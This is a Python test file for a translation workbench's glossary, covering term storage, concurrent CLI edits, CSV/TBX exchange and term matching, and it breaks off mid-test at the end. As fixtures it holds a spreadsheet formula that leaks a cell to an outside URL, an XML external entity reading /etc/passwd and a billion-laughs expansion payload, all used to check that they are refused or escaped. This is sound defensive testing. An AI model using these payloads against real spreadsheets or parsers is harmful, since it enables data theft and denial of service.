"""The glossary: storage, CSV/TBX exchange, safe XML, matching, and the MT hooks."""

from __future__ import annotations

import csv
import importlib.util
import json
import multiprocessing
import tempfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import example, given, settings
from hypothesis import strategies as st

from workbench.lifecycle import create_workspace
from workbench.cli import cli
from workbench.formats import export_file, import_file, load_bundled
from workbench.formats.common import GLOSSARY_MAX_BYTES
from workbench.formats.glossary_csv import escape_cell, read_csv, unescape_cell, write_csv
from workbench.formats.glossary_tbx import read_tbx, write_tbx
from workbench.glossary import (
    Glossary,
    GlossaryError,
    Rendering,
    Term,
    TermConflictError,
    add_term,
    edit_term,
    get_term,
    list_terms,
    rebased_edit,
    remove_term,
    save_edited_term,
)
from workbench.mt.protection import keep_spans, mask
from workbench.workspace import Workspace

REPO = Path(__file__).resolve().parent.parent
REFERENCE = REPO / "glossary" / "reference.csv"
LOCALES = ["es", "fr_CA", "id", "tl"]


def glossary_of(*terms: Term) -> Glossary:
    for number, term in enumerate(terms, start=1):
        term.id = number
    return Glossary(list(terms))


def term(text: str, **fields: object) -> Term:
    return Term(id=0, term=text, **fields)  # type: ignore[arg-type]


@pytest.fixture
def empty(tmp_path: Path) -> Workspace:
    """A workspace whose bundled glossary has been cleared, for exact round trips."""
    workspace = create_workspace(tmp_path / "ws")
    for existing in list_terms(workspace.store):
        remove_term(workspace.store, existing.id)
    return workspace


def rich_terms(workspace: Workspace) -> None:
    """Terms using every field, with text that stresses CSV quoting and XML escaping."""
    add_term(
        workspace.store, "migrant workers", english_forms=["migrant worker", "migrant labourers"],
        kind="concept", treatment="translate", notes='most are women; say "workers", not <labour>',
        renderings={
            "es": Rendering("trabajadores migrantes", ["trabajadoras migrantes"], ["trabajadores ilegales"],
                            ["trabajador* migrante*"], verified=True),
            "fr_CA": Rendering("travailleurs migrants", [], [], ["re:travailleu(?:r|se)s? migrante?s?"], verified=False),
            "tl": Rendering("mga manggagawang migrante", ["manggagawang migrante"], [], [], verified=False),
        },
    )
    add_term(workspace.store, "IMA", kind="acronym", treatment="keep", notes="never expand, never translate",
             renderings={"es": Rendering("IMA", forbidden=["AIM"])})
    add_term(workspace.store, "Rights, Welfare & Dignity", kind="slogan", treatment="established",
             case_sensitive=True, renderings={"id": Rendering("Hak, Kesejahteraan & Martabat")})


# -- storage ------------------------------------------------------------------------------------


def test_add_edit_remove_and_lookup(empty: Workspace) -> None:
    store = empty.store
    added = add_term(store, "refugees", english_forms=["refugee"], renderings={"es": Rendering("refugiados")})
    assert get_term(store, "refugees").id == added.id
    with pytest.raises(GlossaryError, match="already exists"):
        add_term(store, "refugees")
    edited = edit_term(store, added.id, term="refugee", renderings={"es": None, "id": Rendering("pengungsi")})
    assert edited.term == "refugee"
    assert set(edited.renderings) == {"id"}
    assert get_term(store, str(added.id)).renderings["id"].preferred == "pengungsi"
    remove_term(store, "refugee")
    assert list_terms(store) == []
    with pytest.raises(GlossaryError, match="glossary list"):
        get_term(store, added.id)


def test_invalid_terms_are_refused(empty: Workspace) -> None:
    with pytest.raises(GlossaryError, match="treatment"):
        add_term(empty.store, "plunder", treatment="ignore")
    with pytest.raises(GlossaryError, match="preferred"):
        add_term(empty.store, "plunder", renderings={"es": Rendering("", variants=["saqueo"])})
    with pytest.raises(GlossaryError, match="regular expression"):
        add_term(empty.store, "plunder", renderings={"es": Rendering("saqueo", patterns=["re:saque(o"])})
    assert list_terms(empty.store) == []


def test_from_store_reuses_matchers_until_the_glossary_changes(empty: Workspace) -> None:
    add_term(empty.store, "plunder", renderings={"es": Rendering("saqueo")})
    first = Glossary.from_store(empty.store)
    assert Glossary.from_store(empty.store) is first
    edit_term(empty.store, "plunder", renderings={"es": Rendering("expolio")})
    second = Glossary.from_store(empty.store)
    assert second is not first
    assert second.terms[0].rendering("es") == "expolio"


def test_every_write_of_a_term_bumps_its_version(empty: Workspace, tmp_path: Path) -> None:
    store = empty.store
    assert add_term(store, "plunder", renderings={"es": Rendering("saqueo")}).version == 1
    assert edit_term(store, "plunder", notes="used in every statement").version == 2
    path = tmp_path / "es.csv"
    path.write_text("term,es\nplunder,expolio\n", encoding="utf-8")
    import_file(store, path, LOCALES)
    assert get_term(store, "plunder").version == 3


def _add_variants_from_the_cli(root: str, prefix: str, edits: int, start: Any) -> list[int]:
    """Run ``glossary edit plunder --add-variants es=<prefix><n>`` ``edits`` times, as a script would.

    ``start`` is a barrier the other process waits at too, so the runs overlap.
    """
    runner = CliRunner()
    start.wait()
    return [runner.invoke(cli, ["-w", root, "glossary", "edit", "plunder", "--add-variants", f"es={prefix}{number}"]).exit_code
            for number in range(edits)]


def test_cli_edits_run_at_the_same_time_by_two_processes_all_take_effect(empty: Workspace) -> None:
    add_term(empty.store, "plunder", renderings={"es": Rendering("saqueo")})
    edits = 25
    spawn = multiprocessing.get_context("spawn")
    with spawn.Manager() as manager, spawn.Pool(2) as pool:
        start = manager.Barrier(2)
        codes = pool.starmap(_add_variants_from_the_cli, [(str(empty.root), prefix, edits, start) for prefix in "ab"])
    assert codes == [[0] * edits, [0] * edits]
    plunder = get_term(empty.store, "plunder")
    assert sorted(plunder.renderings["es"].variants) == sorted(f"{prefix}{n}" for prefix in "ab" for n in range(edits))
    assert plunder.version == 1 + 2 * edits


def test_a_cli_edit_changes_only_the_fields_it_names(empty: Workspace) -> None:
    add_term(empty.store, "plunder", renderings={"es": Rendering("saqueo", ["expolio"], ["robo"])})
    base = ["-w", str(empty.root), "glossary", "edit", "plunder"]
    runner = CliRunner()
    assert runner.invoke(cli, [*base, "--add-variants", "es=pillaje; expolio", "--add-forbidden", "es=hurto"]).exit_code == 0
    assert runner.invoke(cli, [*base, "--render", "es=despojo", "--add-patterns", "es=saque*"]).exit_code == 0
    assert get_term(empty.store, "plunder").renderings["es"] == Rendering(
        "despojo", ["expolio", "pillaje"], ["robo", "hurto"], ["saque*"], True)
    result = runner.invoke(cli, [*base, "--add-variants", "id=penjarahan"])
    assert result.exit_code == 2
    assert result.output.count("\n") == 1 and "a rendering needs a preferred text" in result.output


def test_a_form_edit_keeps_what_someone_else_changed_meanwhile_in_other_fields(empty: Workspace) -> None:
    store = empty.store
    loaded = add_term(store, "plunder", notes="old note", renderings={"es": Rendering("saqueo"), "tl": Rendering("pandarambong")})
    edit_term(store, "plunder", kind="slogan", renderings={"es": Rendering("saqueo", ["expolio"])})
    edited = Term(loaded.id, "plunder", notes="new note", renderings={"es": Rendering("despojo"), "fr_CA": Rendering("pillage")})

    saved = save_edited_term(store, loaded, edited, LOCALES)

    assert (saved.notes, saved.kind, saved.version) == ("new note", "slogan", 3)
    assert saved.renderings == {"es": Rendering("despojo", ["expolio"]), "fr_CA": Rendering("pillage")}


def test_a_rebased_form_edit_takes_in_what_only_the_other_side_changed() -> None:
    loaded = Term(7, "plunder", notes="old", kind="concept", version=1, renderings={"es": Rendering("saqueo")})
    current = Term(7, "plunder", notes="theirs", kind="slogan", version=2, renderings={"es": Rendering("saqueo", ["expolio"])})
    edited = Term(7, "plunder", notes="mine", kind="concept", renderings={"es": Rendering("saqueo"), "id": Rendering("penjarahan")})

    mine = rebased_edit(loaded, edited, current, LOCALES)
    theirs = rebased_edit(loaded, edited, current, LOCALES, keep_theirs=True)

    assert (mine.notes, mine.kind, mine.version) == ("mine", "slogan", 2)
    assert theirs.notes == "theirs"
    for rebased in (mine, theirs):
        assert rebased.renderings == {"es": Rendering("saqueo", ["expolio"]), "id": Rendering("penjarahan")}


def test_a_form_edit_of_a_field_someone_else_changed_meanwhile_is_refused_with_both_values(empty: Workspace) -> None:
    store = empty.store
    loaded = add_term(store, "plunder", notes="old note", renderings={"es": Rendering("saqueo")})
    edit_term(store, "plunder", notes="their note", renderings={"es": Rendering("expolio")})
    edited = get_term(store, "plunder")
    edited.notes, edited.renderings = "my note", {"es": Rendering("pillaje"), "id": Rendering("penjarahan")}

    with pytest.raises(TermConflictError) as conflict:
        save_edited_term(store, loaded, edited, LOCALES)

    assert [(c.label, c.theirs, c.mine) for c in conflict.value.conflicts] == [
        ("notes", "their note", "my note"), ("es preferred", "expolio", "pillaje")]
    assert "changed by someone else meanwhile (now version 2) in notes, es preferred" in str(conflict.value)
    unchanged = get_term(store, "plunder")
    assert (unchanged.notes, unchanged.version, set(unchanged.renderings)) == ("their note", 2, {"es"})
    # the same change made on both sides is no conflict
    edited.notes, edited.renderings = "their note", {"es": Rendering("expolio"), "id": Rendering("penjarahan")}
    assert set(save_edited_term(store, loaded, edited, LOCALES).renderings) == {"es", "id"}


def test_a_form_edit_of_a_term_deleted_meanwhile_says_so(empty: Workspace) -> None:
    loaded = add_term(empty.store, "plunder")
    remove_term(empty.store, "plunder")
    edited = Term(loaded.id, "plunder", notes="my note")
    with pytest.raises(GlossaryError, match="'plunder' was deleted by someone else meanwhile: cancel, and add it again"):
        save_edited_term(empty.store, loaded, edited, LOCALES)


# -- CSV and TBX ---------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".tbx"])
def test_round_trip_keeps_every_field(empty: Workspace, tmp_path: Path, suffix: str) -> None:
    rich_terms(empty)
    before = [t.to_dict() for t in list_terms(empty.store)]
    path = tmp_path / f"out{suffix}"
    assert export_file(empty.store, path, LOCALES) == 3

    other = create_workspace(tmp_path / "other")
    for existing in list_terms(other.store):
        remove_term(other.store, existing.id)
    report = import_file(other.store, path, LOCALES)
    assert (report.added, report.updated) == (3, 0)
    after = {t.term: t.to_dict() for t in list_terms(other.store)}
    for expected in before:
        got = after[expected["term"]]
        assert {k: v for k, v in got.items() if k != "id"} == {k: v for k, v in expected.items() if k != "id"}

    # exporting what was imported gives the same bytes: the files diff cleanly in git
    again = tmp_path / f"again{suffix}"
    export_file(other.store, again, LOCALES)
    assert again.read_bytes() == path.read_bytes()


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What OWASP's CSV-injection advice says a spreadsheet may run as a formula at the start of a cell."""


def exported_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in list(csv.reader(handle))[1:] for cell in row]


def test_cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_imported_back(empty: Workspace, tmp_path: Path) -> None:
    hyperlink = '=HYPERLINK("http://example.org/?leak="&A1,"click")'
    add_term(empty.store, "plunder", kind="@SUM(A1:A9)", notes=hyperlink,
             renderings={"es": Rendering("+saqueo", ["-expolio"]), "id": Rendering("'=penjarahan")})
    path = tmp_path / "glossary.csv"
    export_file(empty.store, path, LOCALES)

    cells = exported_cells(path)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert {"'" + hyperlink, "'@SUM(A1:A9)", "'+saqueo", "'-expolio", "''=penjarahan"} <= set(cells)

    before = get_term(empty.store, "plunder")
    remove_term(empty.store, "plunder")
    import_file(empty.store, path, LOCALES)
    after = get_term(empty.store, "plunder")
    assert (after.kind, after.notes, after.renderings) == (before.kind, before.notes, before.renderings)


def test_import_merges_without_erasing_other_languages_or_fields_the_file_has_no_column_for(empty: Workspace, tmp_path: Path) -> None:
    before = add_term(empty.store, "plunder", english_forms=["plundered"], kind="slogan", treatment="established",
                      notes="used in every statement", case_sensitive=True,
                      renderings={"es": Rendering("saqueo"), "tl": Rendering("pandarambong")})
    path = tmp_path / "es.csv"
    path.write_text("term,es\nplunder,expolio\nexploitation,explotación\n", encoding="utf-8")
    report = import_file(empty.store, path, LOCALES)
    assert (report.added, report.updated) == (1, 1)
    plunder = get_term(empty.store, "plunder")
    assert plunder.rendering("es") == "expolio"
    assert plunder.rendering("tl") == "pandarambong"
    assert (plunder.english_forms, plunder.kind, plunder.notes) == (before.english_forms, before.kind, before.notes)
    assert (plunder.treatment, plunder.case_sensitive) == (before.treatment, before.case_sensitive)
    assert get_term(empty.store, "exploitation").kind == "concept"


def test_a_csv_column_that_is_present_but_empty_does_clear_the_field(empty: Workspace, tmp_path: Path) -> None:
    add_term(empty.store, "plunder", english_forms=["plundered"], notes="used in every statement", renderings={"es": Rendering("saqueo")})
    path = tmp_path / "notes.csv"
    path.write_text("term,notes,english_forms\nplunder,,\n", encoding="utf-8")
    import_file(empty.store, path, LOCALES)
    plunder = get_term(empty.store, "plunder")
    assert (plunder.notes, plunder.english_forms, plunder.rendering("es")) == ("", [], "saqueo")


def test_reference_layout_maps_fr_and_marks_unsure_unverified(empty: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "reference.csv"
    path.write_text(
        "term,english_forms,kind,treatment,es,fr,id,tl,unsure,note,corpus_count\n"
        'crackdown,,concept,translate,ofensiva represiva,répression,penindasan,crackdown,es id tl,,16\n'
        '"rights, welfare and dignity",,slogan,translate,"derechos, bienestar y dignidad",'
        '"droits, bien-être et dignité","hak, kesejahteraan, dan martabat","karapatan, kagalingan at dignidad",,fixed,5\n',
        encoding="utf-8",
    )
    import_file(empty.store, path, LOCALES)
    crackdown = get_term(empty.store, "crackdown")
    assert crackdown.renderings["fr_CA"].preferred == "répression"
    assert {loc for loc, r in crackdown.renderings.items() if not r.verified} == {"es", "id", "tl"}
    assert get_term(empty.store, "rights, welfare and dignity").rendering("es") == "derechos, bienestar y dignidad"


def test_languages_outside_the_workspace_are_skipped_and_reported(empty: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "de.csv"
    path.write_text("term,es,de\nplunder,saqueo,Plünderung\n", encoding="utf-8")
    report = import_file(empty.store, path, LOCALES)
    assert report.skipped_languages == ["de"]
    assert "skipped languages" in report.summary()
    assert set(get_term(empty.store, "plunder").renderings) == {"es"}


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("es,id\nsaqueo,penjarahan\n", "no 'term' column"),
        ("term,colour\nplunder,red\n", "unknown column 'colour'"),
        ("term,treatment\nplunder,ignore\n", "treatment 'ignore'"),
        ('term,es\nplunder,"saqueo"x\n', "line 2: malformed CSV"),
        ('term,es\nplunder,saqueo\nlooting,"pillaje\nrobbery,robo\nhunger,hambre\n', "line 3: malformed CSV"),
        ("term;es\nplunder;saqueo\n", "separated by semicolons"),
        ("term,es\nplunder,saqueo\nplunder,expolio\n", "appears twice"),
        ("term,es\nplunder,saqueo,extra\n", "quote cells"),
    ],
)
def test_malformed_csv_is_refused_with_a_line_that_says_what_to_do(empty: Workspace, tmp_path: Path, content: str, message: str) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(GlossaryError, match=message) as refused:
        import_file(empty.store, path, LOCALES)
    assert "\n" not in str(refused.value) and str(refused.value).startswith("bad.csv")
    assert list_terms(empty.store) == []


def test_weblate_style_tbx_is_read(empty: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "weblate.tbx"
    path.write_text(
        """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE martif PUBLIC "ISO 12200:1999A//DTD MARTIF core (DXFcdV04)//EN" "TBXcdv04.dtd">
<martif type="TBX" xml:lang="en"><text><body>
  <termEntry><descrip>used in every statement</descrip>
    <langSet xml:lang="en"><tig><term>plunder</term></tig></langSet>
    <langSet xml:lang="es-ES"><tig><term>saqueo</term></tig><tig><term>expolio</term></tig>
      <tig><term>pillaje</term><termNote type="administrativeStatus">forbidden</termNote></tig></langSet>
  </termEntry>
  <termEntry>
    <langSet xml:lang="en"><tig><term>GCM</term><termNote type="translationNote">no</termNote></tig></langSet>
  </termEntry>
</body></text></martif>
""",
        encoding="utf-8",
    )
    import_file(empty.store, path, LOCALES)
    plunder = get_term(empty.store, "plunder")
    assert plunder.renderings["es"] == Rendering("saqueo", ["expolio"], ["pillaje"], [], True)
    assert plunder.notes == "used in every statement"
    gcm = get_term(empty.store, "GCM")
    assert gcm.treatment == "keep" and gcm.case_sensitive


EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE martif [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<martif type="TBX-Basic" xml:lang="en"><text><body><termEntry>
<langSet xml:lang="en"><tig><term>&secret;</term></tig></langSet>
</termEntry></body></text></martif>
"""

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE martif [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<martif type="TBX-Basic" xml:lang="en"><text><body><termEntry>
<langSet xml:lang="en"><tig><term>&lol9;</term></tig></langSet>
</termEntry></body></text></martif>
"""


@pytest.mark.parametrize("content", [EXTERNAL_ENTITY, BILLION_LAUGHS], ids=["external-entity", "billion-laughs"])
def test_hostile_tbx_is_refused(empty: Workspace, tmp_path: Path, content: str) -> None:
    path = tmp_path / "hostile.tbx"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(GlossaryError, match="entities") as refused:
        import_file(empty.store, path, LOCALES)
    assert "\n" not in str(refused.value)
    assert list_terms(empty.store) == []

    result = CliRunner().invoke(cli, ["-w", str(empty.root), "glossary", "import", str(path)])
    assert result.exit_code == 2
    assert result.output.count("\n") == 1 and "entities" in result.output


def test_broken_xml_and_non_tbx_are_refused(empty: Workspace, tmp_path: Path) -> None:
    broken = tmp_path / "broken.tbx"
    broken.write_text("<martif><text>", encoding="utf-8")
    with pytest.raises(GlossaryError, match="well-formed"):
        import_file(empty.store, broken, LOCALES)
    other = tmp_path / "other.tbx"
    other.write_text("<html><body/></html>", encoding="utf-8")
    with pytest.raises(GlossaryError, match="not a TBX file"):
        import_file(empty.store, other, LOCALES)
    spreadsheet = tmp_path / "terms.xlsx"
    spreadsheet.write_bytes(b"PK\x03\x04")
    with pytest.raises(GlossaryError, match="use a .csv or .tbx"):
        import_file(empty.store, spreadsheet, LOCALES)
    with pytest.raises(GlossaryError, match="missing.tbx: no such file: check the path"):
        import_file(empty.store, tmp_path / "missing.tbx", LOCALES)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("latin1.csv", b"term,es\nplunder,saqueo\nhunger,hambre\ncaf\xe9,x\n",
         "latin1.csv, line 4: not UTF-8 text (byte 0xe9): save the CSV as UTF-8"),
        ("bom.csv", b"\xef\xbb\xbfterm,es\n\xff,x\n", "bom.csv, line 2: not UTF-8 text (byte 0xff)"),
        ("tags.tbx", b'<?xml version="1.0"?>\n<martif>\n<text></martif>\n',
         "tags.tbx, line 3, column 9: not well-formed XML (mismatched tag): export the glossary again"),
        ("klingon.tbx", b'<?xml version="1.0" encoding="x-klingon"?>\n<martif/>\n',
         "klingon.tbx, line 1: unknown encoding: x-klingon: export the glossary again as UTF-8"),
    ],
)
def test_unreadable_glossary_files_are_refused_in_one_line_that_names_the_line(
        empty: Workspace, tmp_path: Path, name: str, content: bytes, message: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(GlossaryError) as refused:
        import_file(empty.store, path, LOCALES)
    assert str(refused.value).startswith(message)
    assert "\n" not in str(refused.value)


@pytest.mark.parametrize("suffix", [".csv", ".tbx"])
def test_a_glossary_file_over_the_size_limit_is_refused_before_it_is_parsed(empty: Workspace, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"huge{suffix}"
    with path.open("w", encoding="utf-8") as handle:  # broken from its first line: only the size may be reported
        handle.write('term,"es\n' if suffix == ".csv" else "<martif><text>\n")
        handle.writelines(f"term number {number},término número {number}\n" for number in range(160_000))
    size = path.stat().st_size
    assert size > GLOSSARY_MAX_BYTES

    with pytest.raises(GlossaryError) as refused:
        import_file(empty.store, path, LOCALES)
    assert str(refused.value) == (f"huge{suffix}: {size / 1e6:.1f} MB ({size:,} bytes) is over the 5 MB limit for glossary "
                                  "files: split it into smaller files, or raise glossary_max_mb under [limits] in workbench.toml")

    result = CliRunner().invoke(cli, ["-w", str(empty.root), "glossary", "import", str(path)])
    assert result.exit_code == 2
    assert result.output.startswith("error: ") and result.output.count("\n") == 1 and f"{size:,} bytes" in result.output
    assert list_terms(empty.store) == []


def test_the_glossary_size_limit_can_be_set_per_import(empty: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "small.csv"
    path.write_text("term,es\nplunder,saqueo\n", encoding="utf-8")
    with pytest.raises(GlossaryError, match=r"small.csv: 0.0 MB \(23 bytes\) is over the .* MB limit"):
        import_file(empty.store, path, LOCALES, max_bytes=22)
    assert import_file(empty.store, path, LOCALES, max_bytes=23).added == 1


def test_glossary_import_takes_its_size_limit_from_the_workspace_settings(empty: Workspace, tmp_path: Path) -> None:
    assert empty.limits.glossary_max_mb == 5
    path = tmp_path / "terms.csv"
    path.write_text("term,es\n" + "".join(f"term {n},término {n}\n" for n in range(1000)), encoding="utf-8")
    with empty.config_path.open("a", encoding="utf-8") as config:
        config.write("\n[limits]\nglossary_max_mb = 0.01\n")
    base = ["-w", str(empty.root), "glossary", "import", str(path)]

    refused = CliRunner().invoke(cli, base)
    assert refused.exit_code == 2
    assert "is over the 0.01 MB limit for glossary files" in refused.output and refused.output.count("\n") == 1

    empty.config_path.write_text(empty.config_path.read_text(encoding="utf-8").replace("0.01", "1"), encoding="utf-8")
    assert "1000 terms added" in CliRunner().invoke(cli, base).output

    empty.config_path.write_text(empty.config_path.read_text(encoding="utf-8").replace("= 1", "= -1"), encoding="utf-8")
    wrong = CliRunner().invoke(cli, base)
    assert wrong.exit_code == 2
    assert "[limits] glossary_max_mb must be a number of megabytes above 0, e.g. glossary_max_mb = 5" in wrong.output


@pytest.mark.parametrize("suffix", [".csv", ".tbx"])
def test_an_interrupted_glossary_export_leaves_the_previous_file_whole(
        empty: Workspace, tmp_path: Path, suffix: str, monkeypatch: pytest.MonkeyPatch) -> None:
    add_term(empty.store, "plunder", renderings={"es": Rendering("saqueo")})
    path = tmp_path / "out" / f"glossary{suffix}"
    export_file(empty.store, path, LOCALES)
    before = path.read_bytes()
    add_term(empty.store, "looting", renderings={"es": Rendering("pillaje")})

    def crash(source: object, target: object) -> None:
        raise OSError("disk unplugged")

    monkeypatch.setattr("workbench.formats.common.os.replace", crash)
    with pytest.raises(OSError, match="disk unplugged"):
        export_file(empty.store, path, LOCALES)
    assert path.read_bytes() == before
    assert [p.name for p in path.parent.iterdir()] == [path.name]  # no temporary file left behind

    monkeypatch.undo()
    assert export_file(empty.store, path, LOCALES) == 2
    assert b"looting" in path.read_bytes()


# -- the bundled glossary --------------------------------------------------------------------------


def test_new_workspace_starts_with_the_bundled_glossary(workspace: Workspace) -> None:
    terms = {t.term: t for t in list_terms(workspace.store)}
    assert len(terms) >= 60
    crackdown = terms["crackdown"]
    assert not crackdown.renderings["es"].verified and crackdown.renderings["fr_CA"].verified
    assert all(r.verified for r in terms["forced migration"].renderings.values())
    assert terms["IMA"].treatment == "keep" and terms["IMA"].case_sensitive
    # the reference's note "id also: buruh migran" became an accepted variant
    assert "buruh migran" in terms["migrant workers"].renderings["id"].variants


def test_bundled_glossary_loads_once(workspace: Workspace) -> None:
    remove_term(workspace.store, "crackdown")
    assert load_bundled(workspace.store, workspace.bundled_glossary, workspace.target_locales) is None
    create_workspace(workspace.root)
    assert "crackdown" not in {t.term for t in list_terms(workspace.store)}


def test_bundled_glossary_marks_exactly_the_unsure_renderings_unverified(workspace: Workspace) -> None:
    with REFERENCE.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    by_code = {"es": "es", "fr": "fr_CA", "id": "id", "tl": "tl"}
    expected = {(row["term"], by_code[code]) for row in rows for code in row["unsure"].split()}
    terms = list_terms(workspace.store)
    unverified = {(t.term, locale) for t in terms for locale, r in t.renderings.items() if not r.verified}
    assert unverified == expected
    assert {row["term"] for row in rows} == {t.term for t in terms}


def test_bundled_glossary_is_what_the_build_script_makes(tmp_path: Path) -> None:
    spec = importlib.util.spec_from_file_location("glossary_build", REPO / "glossary" / "build.py")
    assert spec is not None and spec.loader is not None
    build = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(build)
    rebuilt = tmp_path / "movement-terms.tbx"
    assert build.build(REFERENCE, rebuilt) >= 60
    assert rebuilt.read_bytes() == (REPO / "glossary" / "movement-terms.tbx").read_bytes()


# -- matching in sources ----------------------------------------------------------------------------


def test_inflected_forms_match() -> None:
    glossary = glossary_of(
        term("migrant worker"), term("refugees"), term("plunder"), term("xenophobia", english_forms=["xenophobic"]),
    )
    text = "Migrant workers' unions, a refugee, and plundered funds; xenophobic attacks on MIGRANT WORKER."
    found = [(m.text, m.term.term) for m in glossary.find_in_source(text)]
    assert found == [
        ("Migrant workers'", "migrant worker"), ("refugee", "refugees"), ("plundered", "plunder"),
        ("xenophobic", "xenophobia"), ("MIGRANT WORKER", "migrant worker"),
    ]


def test_longest_match_wins() -> None:
    glossary = glossary_of(term("human rights"), term("human rights violations"), term("grassroots"),
                           term("grassroots migrants"), term("migrants"))
    matches = glossary.find_in_source("Grassroots migrants document human rights violations and human rights.")
    assert [m.term.term for m in matches] == ["grassroots migrants", "human rights violations", "human rights"]
    assert [(m.start, m.end) for m in matches][0] == (0, len("Grassroots migrants"))


def test_whole_words_and_acronym_case() -> None:
    glossary = glossary_of(term("ICE", treatment="keep", case_sensitive=True), term("United Nations", english_forms=["UN"]),
                           term("IMA", treatment="keep", case_sensitive=True))
    assert glossary.find_in_source("Justice, ice, service and the union; Ima spoke; un-documented") == []
    found = [m.text for m in glossary.find_in_source("ICE raids; the UN; IMA's statement")]
    assert found == ["ICE", "UN", "IMA's"]


def test_a_case_sensitive_term_matches_only_its_own_case() -> None:
    glossary = glossary_of(term("Migrante", treatment="keep", case_sensitive=True), term("solidarity"))
    found = [m.text for m in glossary.find_in_source("A migrante joined Migrante; SOLIDARITY and Solidarity")]
    assert found == ["Migrante", "SOLIDARITY", "Solidarity"]


def test_curly_apostrophes_and_non_breaking_spaces_match() -> None:
    glossary = glossary_of(term("International Migrants Alliance", english_forms=["International Migrants' Alliance"]))
    text = "The International\u00a0Migrants\u2019 Alliance said"
    [match] = glossary.find_in_source(text)
    assert match.text == "International\u00a0Migrants\u2019 Alliance"
    assert text[match.start:match.end] == match.text


def tagalog_glossary() -> Glossary:
    return glossary_of(
        term("migrant workers", renderings={
            "tl": Rendering("mga manggagawang migrante", ["migranteng manggagawa"]),
            "es": Rendering("trabajadores migrantes", forbidden=["trabajadores ilegales"]),
        }),
        term("solidarity", renderings={"tl": Rendering("pagkakaisa"), "es": Rendering("solidaridad")}),
        term("exploitation", renderings={"tl": Rendering("pagsasamantala", patterns=["pinagsasamantala*"])}),
        term("human rights", renderings={"tl": Rendering("karapatang pantao", patterns=["karapatang pang-tao"])}),
        term("IMA", treatment="keep", case_sensitive=True, kind="acronym"),
        term("Migrante", english_forms=["Migrante International"], treatment="keep", case_sensitive=True, kind="name"),
        term("refugees"),
    )


def test_a_tagalog_source_is_matched_through_the_tagalog_forms_of_each_term() -> None:
    glossary = tagalog_glossary()
    text = ("Ang IMA at Migrante International: pagkakaisang internasyunal ng mga manggagawang migrante, "
            "ng isang manggagawang migrante at ng migranteng manggagawa na pinagsasamantalahan; "
            "ang karapatang pang-tao ng refugees; ang migrante.")
    found = [(m.text, m.term.term) for m in glossary.find_in_source(text, lang="tl")]
    assert found == [
        ("IMA", "IMA"), ("Migrante International", "Migrante"),  # keep-terms stay the same in every language
        ("pagkakaisang", "solidarity"),  # the linker -ng before a modifier
        ("mga manggagawang migrante", "migrant workers"), ("manggagawang migrante", "migrant workers"),  # with or without "mga"
        ("migranteng manggagawa", "migrant workers"),  # a variant
        ("pinagsasamantalahan", "exploitation"),  # a pattern form with "*"
        ("karapatang pang-tao", "human rights"),  # a pattern form without one
    ]  # "refugees" has no Tagalog rendering, and "migrante" is not the organisation Migrante
    assert glossary.find_in_source(text, lang="tl")[3].form == "mga manggagawang migrante"


def test_pattern_forms_find_a_tagalog_source_term_in_any_case_and_shape() -> None:
    exploitation = term("exploitation", renderings={
        "tl": Rendering("pagsasamantala", patterns=["Pinagsasamantala*", "*samantalahin", "re:sinasamantala(?:han)?"])})
    glossary = glossary_of(exploitation)
    text = "PINAGSASAMANTALAHAN sila; huwag silang pagsamantalahin; sinasamantalahan; samantala."
    assert [m.text for m in glossary.find_in_source(text, "tl")] == [
        "PINAGSASAMANTALAHAN", "pagsamantalahin", "sinasamantalahan"]


def test_a_source_is_read_as_english_unless_another_language_is_given() -> None:
    glossary = tagalog_glossary()
    tagalog = "Ang IMA ay para sa mga manggagawang migrante at refugees."
    assert [m.term.term for m in glossary.find_in_source(tagalog)] == ["IMA", "refugees"]
    assert [m.term.term for m in glossary.find_in_source(tagalog, "en")] == ["IMA", "refugees"]
    assert [m.term.term for m in glossary.find_in_source("Migrant workers and solidarity.", "tl")] == []


# -- matching in targets ---------------------------------------------------------------------------------


def test_target_accepts_preferred_variants_and_patterns() -> None:
    workers = term("migrant workers", renderings={
